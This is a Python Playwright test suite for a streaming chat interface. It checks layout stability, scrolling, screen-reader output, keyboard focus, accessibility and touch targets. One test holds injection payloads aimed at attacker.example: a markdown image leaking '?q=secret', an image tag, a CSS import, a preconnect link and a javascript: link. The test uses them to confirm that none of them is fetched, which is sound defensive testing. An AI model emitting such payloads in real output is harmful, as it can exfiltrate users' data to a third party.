"""How the page reads: nothing jumps, nothing hides, nothing is fetched; by eye, by ear, by keyboard, on a phone."""

import asyncio
import contextlib
import re
import threading
from itertools import pairwise
from typing import Any

import pytest
from axe_playwright_python.async_playwright import Axe
from playwright.async_api import FilePayload, Page, ViewportSize, expect

from tests.gateway_ui.chat import Chat, Open
from tests.gateway_ui.test_page_answers import SOURCES
from tests.tokenwire.fake_service import FakeService, completed, thought, tool_call

pytestmark = pytest.mark.browser

PARAGRAPHS = ["A paragraph of the answer, long enough for more than one line on most screens.\n\n"] * 30

# One chunk for each kind of thing that might be drawn late or change its height.
RICH = (
    *["Some", "words.", ""],
    "\n\n```python\n", "def f(x):\n", "    return x\n", "```\n\n",
    "A formula: ", "\\(x^2", " + 1\\)", " and another:\n\n", "$$\\frac{1}", "{2}$$", "\n\n",
    "| a | b |\n", "|---|---|\n", "| 1 | 2 |\n", "| 3 |", " 4 |\n\n",
    "A heading\n", "---\n\n", "- one\n", "- two **bo", "ld**\n\n", "> quoted\n", "> more\n\n", "The end.",
)  # fmt: skip

HOSTILE = "![x](http://attacker.example/?q=secret)"
EVERYWHERE = " ".join(
    (
        HOSTILE,
        '<img src="http://attacker.example/1.png">',
        "<style>@import 'http://attacker.example/2.css'</style>",
        "<link rel=preconnect href=http://attacker.example>",
        "[a](javascript:alert(1))",
        ":material/home: :smile: :red[x]",
    )
)


async def growing(page: Chat, text: str) -> Any:
    """Watch the answer's height at each frame, and how far the page is scrolled."""
    return await page.tab.evaluate_handle(
        """text => {
            const seen = {heights: [], empty: 0, started: false};
            const main = document.querySelector('[data-testid=stMain]');
            const look = () => {
                const words = [...document.querySelectorAll('[class*=st-key-words-]')].pop();
                if (words && words.innerText.includes(text)) {
                    seen.started = true;
                    seen.heights.push(words.getBoundingClientRect().height);
                } else if (seen.started) seen.empty += 1;
                requestAnimationFrame(look);
            };
            look();
            return seen;
        }""",
        text,
    )


async def listen(page: Chat) -> None:
    """Have `said` hold what a screen reader hears: the text of each element that is added to the live region."""
    await page.tab.evaluate(
        """() => {
            window.said = [];
            new MutationObserver((changes) => {
                for (const { addedNodes } of changes) for (const one of addedNodes) said.push(one.textContent);
            }).observe(document.querySelector(".tw-voice"), {childList: true});
        }"""
    )


async def test_the_answer_never_shrinks_or_goes_blank_while_it_streams(chat: Open, service: FakeService) -> None:
    gates = [threading.Event() for _ in RICH]
    steps = [one for piece, gate in zip(RICH, gates, strict=True) for one in (piece, gate)]
    service.will_answer("First. ", *steps, completed())
    page = await chat()
    seen = await growing(page, "First.")
    await page.ask("What is baseball?")
    for number, gate in enumerate(gates, 2):
        await expect(page.answer()).to_contain_text(re.compile(rf"\b{number} chunks"))
        gate.set()
    await expect(page.answer()).to_contain_text("tokens in")
    await expect(page.answer().locator("math")).to_have_count(2)
    await page.photograph("rich")
    found = await seen.json_value()
    assert found["empty"] == 0
    heights = found["heights"]
    assert len(heights) > len(RICH)
    assert all(after >= before - 0.5 for before, after in pairwise(heights)), heights


ROWS = 120
LONG_LIST = [f"1. Item {number} of a list that is long.\n" for number in range(ROWS)]
LONG_TABLE = ["| Number | Words |\n|-|-|\n", *[f"| Row {number} | some words in it |\n" for number in range(ROWS)]]
LONG_CODE = ["```python\n", *[f"line_{number} = 'some words in it'\n" for number in range(ROWS)], "```\n"]


async def test_a_block_that_came_in_parts_is_one(chat: Open, service: FakeService) -> None:
    gates = [threading.Event() for _ in range(12)]
    chunks = ["First. \n\n", *LONG_LIST, "\n", *LONG_TABLE, "\n", *LONG_CODE, "\nThe end."]
    size = len(chunks) // len(gates)
    steps: list[Any] = [*chunks]
    for place, gate in enumerate(gates):
        steps.insert((place + 1) * size + place, gate)
    service.will_answer(*steps, completed())
    page = await chat()
    seen = await growing(page, "First.")
    await listen(page)
    await page.ask("What is baseball?")
    for place, gate in enumerate(gates, 1):
        await expect(page.answer()).to_contain_text(re.compile(rf"\b{place * size} chunks"))
        gate.set()
    await expect(page.answer()).to_contain_text("tokens in")
    words = page.answer().locator('[class*="st-key-words-"]')

    async def check() -> None:
        await expect(words).to_contain_text("The end.")  # the line below may say first that it has ended
        assert await words.locator(".tw-more").count() > 3, "it did come in parts"
        await expect(words.locator("ol:visible")).to_have_count(1)
        await expect(words.locator("li:visible")).to_have_count(ROWS)
        await expect(words.locator("table:visible")).to_have_count(1)
        await expect(words.locator("tbody tr:visible")).to_have_count(ROWS)
        await expect(words.locator(".tw-code:visible")).to_have_count(1)
        code = words.locator(".tw-code:visible code")
        assert await code.text_content() == "".join(LONG_CODE[1:-1])
        copied = "one => { getSelection().selectAllChildren(one); return getSelection().toString(); }"
        assert (await code.evaluate(copied)).rstrip("\n") == "".join(LONG_CODE[1:-1]).rstrip("\n")
        numbers = [int(number) for number in re.findall(r"(?:Item|Row|line_) ?(\d+)", await words.inner_text())]
        assert numbers == [*range(ROWS)] * 3

    await check()
    await page.photograph("long-blocks")
    found = await seen.json_value()
    assert found["empty"] == 0
    assert all(after >= before - 0.5 for before, after in pairwise(found["heights"]))
    said = " ".join(await page.tab.evaluate("() => said"))
    assert [int(number) for number in re.findall(r"(?:Item|Row|line_) ?(\d+)", said)] == [*range(ROWS)] * 3
    # It stays so when the script draws it anew, and in another tab.
    await page.flip("Letter by letter")
    await page.rested()  # the script may begin a moment after the switch has turned
    await page.settled()
    await check()
    await page.tab.reload()
    await expect(page.answer()).to_contain_text("The end.")
    await page.settled()
    await check()


async def end_is_visible(page: Chat) -> bool:
    left: float = await page.tab.get_by_test_id("stMain").evaluate(
        "main => main.scrollHeight - main.scrollTop - main.clientHeight"
    )
    return left < 5


PARTS = """async (order) => {
    const part = (first, last, more) => {
        const items = Array.from({length: last - first}, (_, place) => `<li>${first + place}</li>`).join("");
        const list = `<ol${more ? ' class="tw-more"' : ""}>${items}</ol>`;
        // Below the last one another list begins, which goes on in the same way.
        return `<div class="tw-md">${list}${last === 8 ? "<ol><li>8</li></ol>" : ""}</div>`;
    };
    const place = document.createElement("div");
    place.innerHTML = '<div data-testid="stElementContainer"></div>'.repeat(5);
    document.body.append(place);
    for (const number of order) {
        const first = number < 4 ? 2 * number : 9;
        place.children[number].innerHTML = part(first, first + 2, number > 0);
        await new Promise((resolve) => setTimeout(resolve));
    }
    const said = Array.from(place.querySelectorAll("ol:not(.tw-joined) > li"), (one) => Number(one.textContent));
    place.remove();
    return said;
}"""


@pytest.mark.parametrize("order", [[0, 1, 2, 3], [0, 1, 2, 3, 1], [0, 1, 2, 3, 2, 1, 3], [0, 2, 1, 3, 0], [0, 1, 3, 2]])
async def test_parts_of_a_block_stand_in_their_order_whichever_is_drawn_anew(chat: Open, order: list[int]) -> None:
    page = await chat()
    for last in ([], [4]):
        drawn = [*order, *last, *order[4:]]
        assert await page.tab.evaluate(PARTS, drawn) == [*range(11 if last else 9)]


async def test_the_page_follows_unless_the_reader_scrolls_away(chat: Open, service: FakeService) -> None:
    more, rest = threading.Event(), threading.Event()
    service.will_answer(*PARAGRAPHS, more, "Something new.\n\n", *PARAGRAPHS, rest, "The end.", completed())
    page = await chat()
    to_end = page.tab.get_by_role("button", name="To the end")
    await page.ask("What is baseball?")
    await expect(page.answer()).to_contain_text("30 chunks")
    await at_its_end(page)
    await page.rested()
    await expect(to_end).to_be_hidden()
    await page.tab.get_by_test_id("stMain").evaluate("main => main.scrollBy(0, -600)")
    await expect(to_end).to_be_visible()
    place = await page.tab.get_by_test_id("stMain").evaluate("main => main.scrollTop")
    more.set()
    await expect(page.answer()).to_contain_text("61 chunks")
    assert await page.tab.get_by_test_id("stMain").evaluate("main => main.scrollTop") == place
    await page.photograph("scrolled-away")
    await to_end.click()
    await expect(to_end).to_be_hidden()
    rest.set()
    await expect(page.answer()).to_contain_text("tokens in")
    async with asyncio.timeout(20):
        while not await end_is_visible(page):  # noqa: ASYNC110 - the page follows with its next picture
            await asyncio.sleep(0.05)
    await expect(page.answer()).to_contain_text("The end.")
    # All of it, once.
    said = await page.answer().locator('[class*="st-key-words-"]').inner_text()
    assert said.split() == ("".join([*PARAGRAPHS, "Something new.\n\n", *PARAGRAPHS, "The end."])).split()


async def at_its_end(page: Chat) -> None:
    """Wait until it is; and it stays."""
    async with asyncio.timeout(10):
        while not await end_is_visible(page):  # noqa: ASYNC110 - the page follows with its next picture
            await asyncio.sleep(0.05)
    await expect(page.tab.get_by_role("button", name="To the end")).to_be_hidden()


async def test_at_the_end_the_page_stays_there_when_its_window_is_turned(chat: Open, service: FakeService) -> None:
    service.will_answer(*PARAGRAPHS, completed())
    page = await chat()
    await page.ask("What is baseball?")
    await expect(page.answer()).to_contain_text("tokens in")
    for width, height in ((390, 844), (844, 390), (390, 844)):
        await page.tab.wait_for_function("window.tokenwireReading.growsUntil < Date.now()")
        await page.tab.set_viewport_size({"width": width, "height": height})
        await at_its_end(page)


async def test_a_question_asked_from_far_up_is_in_sight_with_its_answer(chat: Open, service: FakeService) -> None:
    service.will_answer(*PARAGRAPHS, completed())
    page = await chat()
    await page.ask("What is baseball?")
    await expect(page.answer()).to_contain_text("tokens in")
    await page.messages.first.hover()
    await page.tab.get_by_test_id("stMain").evaluate("main => main.scrollTo(0, 0)")
    await expect(page.tab.get_by_role("button", name="To the end")).to_be_visible()
    await page.ask("And cricket?")
    await expect(page.answer()).to_contain_text("tokens in")
    await expect(page.messages.nth(2)).to_be_in_viewport()
    await expect(page.answer().get_by_text("Hello there.")).to_be_in_viewport()


async def test_the_input_has_the_cursor_and_all_is_done_by_keyboard(chat: Open, service: FakeService) -> None:
    service.will_answer("Half", threading.Event())
    page = await chat()
    await expect(page.input).to_be_focused()
    await page.tab.keyboard.type("What is baseball?")
    await page.tab.keyboard.press("Enter")
    await expect(page.answer()).to_contain_text("Half")
    await expect(page.input).to_be_focused()
    await page.tab.keyboard.press("Escape")
    await expect(page.problem()).to_be_visible()


async def test_the_answer_is_read_out_sentence_by_sentence(chat: Open, service: FakeService) -> None:
    gate, rest = threading.Event(), threading.Event()
    service.will_answer("The first sentence. The sec", gate, "ond one. A third", rest, " without an end", completed())
    page = await chat()
    voice = page.tab.locator('.tw-voice[aria-live="polite"]')
    await page.ask("What is baseball?")
    await expect(voice).to_have_text("The first sentence.")
    gate.set()
    await expect(voice.locator("p")).to_have_text(["The first sentence.", "The second one."])
    rest.set()
    await expect(voice.locator("p").last).to_have_text("A third without an end")


async def test_what_was_read_out_goes_with_its_conversation(chat: Open) -> None:
    page = await chat()
    voice = page.tab.locator(".tw-voice p")
    await page.ask("What is baseball?")
    await expect(voice).to_have_text(["Hello there."])
    await page.settled()
    await page.tab.get_by_role("button", name="New conversation").click()
    await expect(page.messages).to_have_count(0)
    await expect(voice).to_have_count(0)
    await page.ask("And cricket?")
    await expect(voice).to_have_text(["Hello there."])


async def test_who_begins_a_conversation_has_the_cursor_in_the_input(chat: Open) -> None:
    page = await chat()
    await page.ask("What is baseball?")
    await expect(page.answer()).to_contain_text("tokens in")
    await page.settled()
    new = page.tab.get_by_role("button", name="New conversation")
    await new.click()
    await expect(page.messages).to_have_count(0)
    await expect(page.input).to_be_focused()
    await page.settled()
    await new.focus()
    await page.tab.keyboard.press("Enter")
    await page.tab.keyboard.type("And cricket?")
    await expect(page.input).to_be_focused()
    await page.tab.keyboard.press("Enter")
    await expect(page.messages).to_have_count(2)


async def test_the_list_shows_where_the_open_conversation_stands_in_it(chat: Open) -> None:
    page = await chat()
    first = ""
    for number in range(14):
        await page.tab.get_by_role("button", name="New conversation").click()
        await expect(page.messages).to_have_count(0)
        await page.settled()
        await page.ask(f"Question {number}")
        await expect(page.answer()).to_contain_text("tokens in")
        await page.settled()
        first = first or page.tab.url
    listed = page.tab.locator(".st-key-conversations")
    await expect(listed.get_by_role("button", name="Question 0", exact=True)).not_to_be_in_viewport()
    await page.tab.goto(first)
    await expect(page.messages.first).to_contain_text("Question 0")
    await expect(listed.get_by_role("button", name="Question 0", exact=True)).to_be_in_viewport()


async def test_words_are_read_out_whenever_their_element_comes(chat: Open) -> None:
    page = await chat()
    await page.tab.evaluate(
        """() => {
            const answer = document.createElement("div");
            answer.className = "st-key-answer-x";
            answer.innerHTML = '<div class="tw-figures" data-running></div>';
            document.querySelector('[data-testid="stMain"]').append(answer);
            window.words = (text) => {
                const words = document.createElement("div");
                words.className = "st-key-words-x";
                words.innerHTML = `<div>${text}</div>`;
                answer.querySelector(".st-key-words-x")?.remove();
                answer.prepend(words);
            };
        }"""
    )
    voice = page.tab.locator(".tw-voice p")
    await page.tab.wait_for_function("tokenwireReading.answer")
    await page.tab.evaluate("words('The first sentence. The sec')")
    await expect(voice).to_have_text(["The first sentence."])
    await page.tab.evaluate("words('The first sentence. The second one. A third')")
    await expect(voice).to_have_text(["The first sentence.", "The second one."])


async def test_what_comes_at_once_is_read_out_once_and_nothing_old_is(chat: Open, service: FakeService) -> None:
    service.will_answer("All of it. At once", completed())
    page = await chat()
    await listen(page)
    said = "() => said.join(' ').replace(/\\s+/g, ' ')"
    await page.ask("What is baseball?")
    await expect(page.answer()).to_contain_text("tokens in")
    await page.tab.wait_for_function("said.join(' ').includes('once')")
    assert await page.tab.evaluate(said) == "All of it. At once"
    # Neither by what is drawn anew, nor after another answer, which is a tool call only.
    await page.flip("Letter by letter")
    await page.settled()
    await page.choose("fake-2")
    await page.tab.evaluate("said.length = 0")
    service.will_answer(tool_call("weather", {"city": "Oslo"}), completed())
    await page.ask("How is it in Oslo?")
    await page.tab.wait_for_function("said.length")
    await page.settled()
    assert await page.tab.evaluate(said) == 'Calls weather { "city": "Oslo" }'
    # Neither an earlier alternative.
    service.will_answer("Another. One", completed())
    await page.tab.evaluate("said.length = 0")
    await page.tab.get_by_role("button", name="Retry").click()
    await expect(page.answer()).to_contain_text("2 of 2")
    await page.tab.wait_for_function("said.join(' ').includes('One')")
    await page.answer().get_by_role("button", name="Earlier").click()
    await expect(page.answer()).to_contain_text("1 of 2")
    await page.answer().get_by_role("button", name="Later").click()
    await expect(page.answer()).to_contain_text("2 of 2")
    await page.settled()
    assert await page.tab.evaluate(said) == "Another. One"
    # Nor a conversation that is opened, or loaded.
    await page.tab.evaluate("said.length = 0")
    await page.tab.get_by_role("button", name="New conversation").click()
    await expect(page.messages).to_have_count(0)
    await page.settled()
    await page.tab.locator(".st-key-conversations").get_by_role("button").click()
    await expect(page.messages).to_have_count(4)
    await page.settled()
    service.will_answer("The next.", completed())
    await page.ask("And golf?")
    await expect(page.messages).to_have_count(6)
    await page.tab.wait_for_function("said.length")
    assert await page.tab.evaluate(said) == "The next."
    await page.tab.reload()
    await expect(page.messages).to_have_count(6)
    await page.settled()
    assert await page.tab.locator(".tw-voice").text_content() == ""


async def test_words_that_come_behind_the_end_of_their_answer_are_read_out_once(chat: Open) -> None:
    page = await chat()
    await listen(page)
    # As Streamlit may draw it: each element in a frame of its own.
    await page.tab.evaluate(
        """async () => {
            const frames = async () => { for (let i = 0; i < 5; i += 1) await new Promise(requestAnimationFrame); };
            const answer = document.createElement("div");
            answer.className = "st-key-answer-1";
            answer.innerHTML = '<div class="st-key-words-1"></div><div class="tw-figures" data-new></div>';
            document.querySelector('[data-testid="stMainBlockContainer"]').append(answer);
            await frames();
            for (const said of ["All of it.", "", "All of it."]) {
                answer.firstChild.innerHTML = `<div>${said}</div>`;
                await frames();
            }
        }"""
    )
    assert await page.tab.evaluate("said") == ["All of it."]


async def test_the_focus_goes_to_what_has_come_instead_of_a_button(chat: Open, service: FakeService) -> None:
    page = await chat()
    gate = threading.Event()
    buttons = page.tab.get_by_role("button")

    async def press(name: str, key: str = "Enter") -> None:
        await page.settled()
        await buttons.filter(has_text=re.compile(rf"{name}$")).first.focus()
        await page.tab.keyboard.press(key)

    await page.ask("What is baseball?")
    await expect(page.answer()).to_contain_text("tokens in")
    service.will_answer("Another", gate, completed())
    await press("Retry")
    await expect(page.answer()).to_contain_text("Another")
    await expect(page.input).to_be_focused()
    gate.set()
    await expect(page.answer()).to_contain_text("2 of 2")
    # The first has nothing before it, so the way back has the focus.
    await press("Earlier")
    await expect(page.answer()).to_contain_text("1 of 2")
    await expect(page.answer().get_by_role("button", name="Later")).to_be_focused()
    await press("Later")
    await expect(page.answer()).to_contain_text("2 of 2")
    await expect(page.answer().get_by_role("button", name="Earlier")).to_be_focused()
    await press("Edit")
    await expect(page.tab.get_by_label("Your question")).to_be_focused()
    await press("Cancel")
    await expect(page.messages.first.get_by_role("button", name="Edit")).to_be_focused()
    service.will_answer("Half", threading.Event())
    await page.ask("And then?")
    await expect(page.answer()).to_contain_text("Half")
    await page.ask("And cricket?")
    await expect(page.not_asked()).to_contain_text("And cricket?")
    await buttons.filter(has_text="Don't ask").focus()
    await page.tab.keyboard.press("Enter")
    await expect(page.not_asked()).to_have_count(0)
    await expect(page.input).to_be_focused()
    await page.stop.focus()
    await page.tab.keyboard.press("Enter")
    await expect(page.problem()).to_be_visible()
    await expect(page.input).to_be_focused()
    await page.open_this_conversation()
    await press("Delete")
    await expect(page.messages).to_have_count(0)
    await expect(page.tab.get_by_role("button", name="Undo")).to_be_focused()
    await press("Undo.*")
    await expect(page.messages).to_have_count(4)
    await expect(page.input).to_be_focused()
    # Who clicks beside it has left it.
    await page.tab.get_by_role("button", name="Retry").focus()
    await page.messages.first.get_by_text("What is baseball?").click()
    await page.flip("Mark the chunks")
    await expect(page.input).not_to_be_focused()


async def test_a_closed_drawer_is_not_reached_by_keyboard(chat: Open, tab: Page) -> None:
    await tab.set_viewport_size(ViewportSize(width=390, height=844))
    page = await chat()
    await expect(tab.get_by_test_id("stExpandSidebarButton")).to_be_visible()
    await expect(tab.get_by_text("Settings", exact=True)).to_be_hidden()
    seen = """() => {
        const { x, y, right, bottom } = document.activeElement.getBoundingClientRect();
        return right > 0 && bottom > 0 && x < innerWidth && y < innerHeight;
    }"""
    for _ in range(12):
        await tab.keyboard.press("Tab")
        if await tab.evaluate("() => document.activeElement === document.body"):
            continue  # around the page's end
        assert await tab.evaluate(seen), await tab.evaluate("() => document.activeElement.outerHTML.slice(0, 300)")
    # Opened by keyboard, it is there; closed again, the focus isn't lost in it.
    await tab.get_by_test_id("stExpandSidebarButton").focus()
    await tab.keyboard.press("Enter")
    await expect(tab.get_by_text("Settings", exact=True)).to_be_visible()
    await tab.get_by_role("button", name="Collapse sidebar").focus()
    await tab.keyboard.press("Enter")
    await expect(tab.get_by_test_id("stExpandSidebarButton")).to_be_focused()
    await page.settled()


LOOKS = {
    "light": ("light", ViewportSize(width=1100, height=800)),
    "dark": ("dark", ViewportSize(width=1100, height=800)),
    "phone": ("light", ViewportSize(width=390, height=844)),
    "phone-dark": ("dark", ViewportSize(width=390, height=844)),
}


@pytest.mark.parametrize("look", LOOKS)
async def test_axe_finds_nothing_against_wcag_2_2_aa(chat: Open, tab: Page, service: FakeService, look: str) -> None:
    scheme, size = LOOKS[look]
    await tab.emulate_media(color_scheme="dark" if scheme == "dark" else "light")
    await tab.set_viewport_size(size)
    gate = threading.Event()
    service.will_answer(
        thought("Hm."), *RICH, "\n\n```python\nclass A: # c\n    x = 'text' + 1.5\n```\n\n",
        gate, tool_call("weather", {"city": "Oslo"}), SOURCES, completed(),
    )  # fmt: skip
    page = await chat()
    rules = {"runOnly": {"type": "tag", "values": ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa"]}}
    for state in ("empty", "writing", "answered"):
        if state == "writing":
            await page.ask("What is baseball?")
            await expect(page.answer()).to_contain_text("class A")
        elif state == "answered":
            gate.set()
            await expect(page.answer()).to_contain_text("tokens in")
            await page.settled()
        found = await Axe().run(tab, options=rules)
        wrong = [
            (one["id"], node["html"][:200], node["failureSummary"][:300])
            for one in found.response["violations"]
            for node in one["nodes"]
        ]
        assert not wrong, state


async def test_on_a_phone_wide_things_scroll_by_themselves(chat: Open, tab: Page, service: FakeService) -> None:
    await tab.set_viewport_size(ViewportSize(width=390, height=844))
    cells = " | ".join(f"a wide column {number}" for number in range(12))
    table = f"| {cells} |\n|{'---|' * 12}\n| {cells} |\n\n"
    service.will_answer(
        table, "```python\n" + "x = 1 + " * 60 + "1\n```\n\n", "`" + "y" * 300 + "` " + "z" * 300, completed()
    )
    page = await chat()
    await page.ask("What is baseball?")
    await expect(page.answer()).to_contain_text("tokens in")
    await page.photograph("phone-wide")
    wide = "main => main.scrollWidth - main.clientWidth"
    assert await tab.get_by_test_id("stMain").evaluate(wide) <= 0
    for place in (".tw-table", ".tw-code pre"):
        inside = page.answer().locator(place)
        assert await inside.evaluate("one => one.scrollWidth > one.clientWidth"), place
    box = await page.answer().locator(".tw-md").first.bounding_box()
    assert box is not None
    assert box["x"] < 30, "no room is lost to an avatar"


LONG_FORMULA = " + ".join(f"a_{number}x_{number}" for number in range(1, 9))


async def test_on_a_phone_a_long_formula_scrolls_by_itself(chat: Open, tab: Page, service: FakeService) -> None:
    await tab.set_viewport_size(ViewportSize(width=390, height=844))
    places = (
        f"- Then ${LONG_FORMULA} = b$.",
        f"# So ${LONG_FORMULA} = b$",
        f"Then \\({LONG_FORMULA}\\) and $a$.",
        f"> - Then ${LONG_FORMULA} = b$.",
        f"Then $${LONG_FORMULA} = b$$ follows.",
        "$a\\hspace{5000em}b$",
        f"| So | |\n|-|-|\n| ${LONG_FORMULA} = b$ | x |",
    )
    service.will_answer("\n\n".join(places), completed())
    page = await chat()
    await page.ask("What is baseball?")
    await expect(page.answer()).to_contain_text("tokens in")
    formulas = page.answer().locator(".tw-math:has(math)")
    await expect(formulas).to_have_count(len(places) + 1)
    await page.photograph("phone-formulas")
    wide = "one => one.scrollWidth > one.clientWidth"
    assert not await tab.get_by_test_id("stMain").evaluate(wide)
    for number in (0, 1, 2, 4, 5, 6):
        assert await formulas.nth(number).evaluate(wide), number
        assert await formulas.nth(number).evaluate("one => one.getBoundingClientRect().right <= innerWidth"), number
        await expect(formulas.nth(number)).to_have_attribute("tabindex", "0")
    # The short one stands on the line of its words, and is no stop for the keyboard.
    short = formulas.nth(3)
    assert await short.get_attribute("tabindex") is None
    below = """one => {
        const mark = document.createElement("span");
        mark.style.cssText = "display: inline-block; width: 1px; height: 1px";
        one.after(mark);
        const line = mark.getBoundingClientRect().bottom;
        mark.remove();
        const letter = document.createRange();
        letter.selectNodeContents(one.querySelector("mi"));
        return line - one.querySelector("mi").getBoundingClientRect().bottom;
    }"""
    assert abs(await short.evaluate(below)) < 2


# All that can be clicked or focused and is smaller than a finger. A link within a sentence may be as small as its line.
SMALL = """() => {
    const small = [];
    const things = "a[href], button, input, textarea, select, summary, video, audio, [role=button], [role=option]," +
        "[role=switch], [role=slider], [role=tab], [tabindex='0']";
    const look = (root) => {
        for (const one of root.querySelectorAll("*")) {
            if (one.shadowRoot) look(one.shadowRoot);
            if (!one.matches(things) || one.closest("svg") || one.matches(".tw-md *")) continue;
            if (!one.checkVisibility({ visibilityProperty: true })) continue;
            const { width, height } = (one.closest("label") ?? one).getBoundingClientRect();
            if (width <= 1 && one !== document.activeElement) continue;  // seen only while it has the focus
            if (width < 44 || height < 44) {
                small.push([one.tagName, one.ariaLabel || one.innerText || one.dataset.testid, width, height]);
            }
        }
    };
    look(document);
    return small;
}"""
FINGERS = {
    "phone": (ViewportSize(width=390, height=844), False),
    "phone on its side": (ViewportSize(width=844, height=390), False),
    "tablet": (ViewportSize(width=820, height=1180), True),
}


@pytest.mark.parametrize("device", FINGERS)
async def test_whatever_a_finger_points_at_is_large(chat: Open, tab: Page, service: FakeService, device: str) -> None:
    size, touch = FINGERS[device]
    await tab.set_viewport_size(size)
    devtools = await tab.context.new_cdp_session(tab)
    await devtools.send("Emulation.setTouchEmulationEnabled", {"enabled": touch})
    gate = threading.Event()
    service.will_answer(thought("Hm."), gate, "Words.", tool_call("weather", {"city": "Oslo"}), SOURCES, completed())
    page = await chat()
    expand = tab.get_by_test_id("stExpandSidebarButton")
    assert await tab.evaluate(SMALL) == []
    if device == "phone":
        await expect(expand).to_be_visible()
    if await expand.is_visible():
        await expand.click()
    await page.choose("fake-2")
    await page.attach(FilePayload(name="report.pdf", mimeType="application/pdf", buffer=b"%PDF-1.7"))
    assert await tab.evaluate(SMALL) == []
    await page.ask("What is baseball?")
    await expect(page.stop).to_be_visible()
    await page.ask("And cricket?")
    await expect(page.not_asked()).to_contain_text("And cricket?")
    assert await tab.evaluate(SMALL) == []
    await page.not_asked().get_by_role("button", name="Don't ask").evaluate("one => one.click()")
    await expect(page.not_asked()).to_have_count(0)
    gate.set()
    await expect(page.answer()).to_contain_text("tokens in")
    await page.settled()
    service.will_answer(thought("Hm."), "Words.", tool_call("weather", {"city": "Oslo"}), SOURCES, completed())
    await tab.get_by_role("button", name="Retry").evaluate("one => one.click()")
    await expect(page.answer()).to_contain_text("2 of 2")
    await page.settled()
    await page.open_settings()
    await page.open_this_conversation()
    for switch in ("Letter by letter", "Answer in JSON"):
        await page.flip(switch)
    await tab.get_by_role("button", name="Edit").evaluate("one => one.click()")
    await expect(tab.get_by_role("button", name="Ask anew")).to_be_visible()
    await page.settled()
    await page.answer().locator("summary", has_text="Chunks").evaluate("one => one.click()")
    await expect(tab.get_by_test_id("stVegaLiteChart")).to_have_count(3)
    await page.settled()
    # That has closed the thoughts.
    for closed in ("Thought for", "What it takes"):
        await tab.locator("details:not([open]) > summary", has_text=closed).last.evaluate("one => one.click()")
    await expect(page.answer().get_by_text("Hm.")).to_be_visible()
    await page.photograph(f"fingers-{device.replace(' ', '-')}")
    # Every expander is open, the drawer too.
    assert await tab.locator("details:not([open])").count() == 0
    assert await tab.evaluate(SMALL) == []
    async with asyncio.timeout(20):
        while not await tab.get_by_role("option").first.is_visible():  # a click may be lost
            await tab.get_by_role("combobox", name="Model").click()
            with contextlib.suppress(AssertionError):
                await expect(tab.get_by_role("option").first).to_be_visible(timeout=1000)
    assert await tab.evaluate(SMALL) == []


async def test_dollars_colons_and_dashes_are_what_the_model_said(chat: Open, service: FakeService) -> None:
    said = "It costs $5 today and $7 tomorrow; :smile: :red[x] :material/home: a -- b -> c $HOME/bin:$PATH"
    service.will_answer(said, completed())
    page = await chat()
    await page.ask("What is baseball?")
    await expect(page.answer()).to_contain_text("tokens in")
    assert await page.answer().locator(".tw-md").inner_text() == said


async def test_nothing_that_anybody_names_is_fetched(chat: Open, tab: Page, service: FakeService) -> None:
    asked: list[str] = []
    tab.on("request", lambda request: asked.append(request.url) if "attacker" in request.url else None)
    service.will_answer(
        thought(EVERYWHERE),
        EVERYWHERE,
        f"\n\n| {HOSTILE} |\n|---|\n| {HOSTILE} |\n\n```{HOSTILE}\n{EVERYWHERE}\n```\n\n# {EVERYWHERE}",
        tool_call(HOSTILE, {EVERYWHERE: EVERYWHERE}),
        SOURCES,
        completed(),
    )
    page = await chat()
    await page.ask(EVERYWHERE)
    await expect(page.answer()).to_contain_text("tokens in")
    await page.settled()
    result = page.tab.get_by_test_id("stForm").get_by_test_id("stWidgetLabel")
    assert (await result.inner_text()).replace("\u2060", "") == f"Result of {HOSTILE}"
    await page.answer().get_by_text("Chunks", exact=True).click()
    await page.open_this_conversation()
    await page.tab.get_by_role("textbox", name="Name").fill(EVERYWHERE)
    await page.tab.get_by_role("textbox", name="Name").press("Enter")
    await expect(page.tab.locator(".st-key-conversations")).to_contain_text("attacker.example/?q=secret")
    await page.tab.get_by_role("button", name="Delete").click()
    await expect(page.tab.get_by_role("button", name="Undo")).to_contain_text("attacker.example/?q=secret")
    await page.settled()
    assert not asked


async def test_thoughts_are_timed_to_the_first_piece_of_the_answer(chat: Open, service: FakeService) -> None:
    gate = threading.Event()
    service.will_answer(thought("Hm."), gate, "Word.", completed())
    page = await chat()
    await page.ask("What is baseball?")
    await expect(page.answer()).to_contain_text("Thinking")
    await page.tab.wait_for_timeout(1200)  # so that the two differ
    gate.set()
    await expect(page.answer()).to_contain_text("tokens in")
    said = await page.answer().inner_text()
    thinking, first = re.search(r"Thought for ([\d.]+ m?s)", said), re.search(r"first chunk ([\d.]+ m?s)", said)
    assert thinking is not None
    assert first is not None
    assert thinking[1] == first[1]


async def test_marked_chunks_are_of_the_last_answer_only(chat: Open, service: FakeService) -> None:
    service.will_answer("Some **bold** words.", completed())
    page = await chat()
    await page.ask("What is baseball?")
    await expect(page.answer()).to_contain_text("tokens in")
    await page.flip("Mark the chunks")
    service.will_answer("Other ", "**bold** words.", completed())
    await page.ask("And cricket?")
    await expect(page.answer().locator(".tw-piece")).to_have_count(2)
    await expect(page.messages.nth(1).locator("strong")).to_have_text("bold")
